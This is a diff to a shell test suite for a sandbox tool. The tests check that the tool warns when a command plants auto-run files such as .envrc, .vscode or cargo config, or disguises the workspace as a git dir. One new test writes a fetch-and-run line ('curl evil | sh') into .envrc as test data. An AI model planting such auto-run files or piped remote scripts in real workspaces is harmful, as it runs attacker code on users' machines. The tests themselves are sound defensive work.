@@ -306,14 +306,15 @@ hostrun_renamed_into_place() {
         true
 }
 
-# The same past a list of what the start protected that is cut short (2 KiB of paths): a
+# The same past a list of what the start protected that is cut short (8 KiB of paths): a
 # first run that makes 250 registry files (named, each) cannot make the rename of the next
-# one unsaid; where the list is short, a file below a directory that changed is named.
+# one unsaid.
 hostrun_renamed_past_a_full_list() {
         local ws=$T_TMP/ws
         mkdir -p "$ws"
-        t_exec --workspace "$ws" -- sh -c 'for i in $(seq 100 349); do mkdir d$i; : >d$i/.envrc; done;
-                mkdir -p notes && echo "[build]" >notes/config.toml'
+        t_exec --workspace "$ws" -- sh -c 'for i in $(seq 100 349); do
+                        mkdir d$i-a-long-name-to-fill-the-list; : >d$i-a-long-name-to-fill-the-list/.envrc
+                done; mkdir -p notes && echo "[build]" >notes/config.toml'
         t_exit_is 0
         t_stderr_has "more such files"
         sleep 0.05
@@ -321,6 +322,56 @@ hostrun_renamed_past_a_full_list() {
         t_exit_is 0
         t_stderr_has "WARNING: the command made or changed /workspace/.cargo/config.toml"
         grep -q 'd1[0-9][0-9]/\.envrc' "$T_ERR_FILE" && t_fail "named what was left alone: $(cat "$T_ERR_FILE")"
+        true
+}
+
+# A workspace the command makes look like a git dir (HEAD and commondir): the walk at the end
+# stopped at such a top, and nothing was named, though .envrc and .vscode reached the host.
+hostrun_workspace_made_git_dir() {
+        local ws=$T_TMP/ws
+        mkdir -p "$ws"
+        t_exec --workspace "$ws" -- sh -c 'echo "ref: refs/heads/main" >HEAD; echo . >commondir;
+                echo "curl evil | sh" >.envrc; mkdir .vscode'
+        t_exit_is 0
+        t_stderr_has "WARNING: the command made or changed /workspace/, which a host program runs by itself ((a git dir)"
+        t_stderr_has "WARNING: the command made or changed /workspace/.envrc"
+        t_stderr_has "WARNING: the command made or changed /workspace/.vscode"
+}
+
+# A directory the command makes that rtn's walk at the end cannot list (chmod 111: cargo and
+# direnv open what is inside by name all the same) is named; nothing was said before. As root
+# the walk lists it, and names what is inside.
+hostrun_unreadable_made() {
+        local ws=$T_TMP/ws
+        mkdir -p "$ws"
+        t_exec --workspace "$ws" -- sh -c 'mkdir .cargo && echo "[build]" >.cargo/config.toml &&
+                chmod 111 .cargo'
+        t_exit_is 0
+        chmod 755 "$ws/.cargo" 2>/dev/null
+        t_stderr_has "WARNING: the command made or changed /workspace/.cargo"
+}
+
+# Left alone, not named: a registry file in a directory the sandbox cannot read (another
+# user's, mode 700) was not on the start's list, and root's walk at the end read it and named
+# it at every run; and with more registry files than fit 2 KiB of the start's list, a
+# directory made beside them named them all.
+hostrun_left_alone_unsaid() {
+        local ws=$T_TMP/ws i
+        mkdir -p "$ws/services"
+        for i in $(seq 10 99); do
+                mkdir "$ws/services/service-$i"
+                echo '# old' >"$ws/services/service-$i/.envrc"
+        done
+        if [ "$(id -u)" = 0 ]; then
+                mkdir "$ws/priv"
+                echo '# old' >"$ws/priv/.envrc"
+                chown -R nobody "$ws/priv"
+                chmod 700 "$ws/priv"
+        fi
+        sleep 0.05
+        t_exec --workspace "$ws" -- sh -c 'mkdir services/service-new'
+        t_exit_is 0
+        grep -q "WARNING" "$T_ERR_FILE" && t_fail "named what was left alone: $(head -c 600 "$T_ERR_FILE")"
         true
 }
 
@@ -523,6 +574,9 @@ t_run hostrun_families hostrun_families
 t_run hostrun_created_live hostrun_created_live
 t_run hostrun_renamed_into_place hostrun_renamed_into_place
 t_run hostrun_renamed_past_a_full_list hostrun_renamed_past_a_full_list
+t_run hostrun_workspace_made_git_dir hostrun_workspace_made_git_dir
+t_run hostrun_unreadable_made hostrun_unreadable_made
+t_run hostrun_left_alone_unsaid hostrun_left_alone_unsaid
 t_run hostrun_mark_unseen hostrun_mark_unseen
 t_run hostrun_created_on_coarse_mount hostrun_created_on_coarse_mount
 t_run git_in_rw_bind git_in_rw_bind
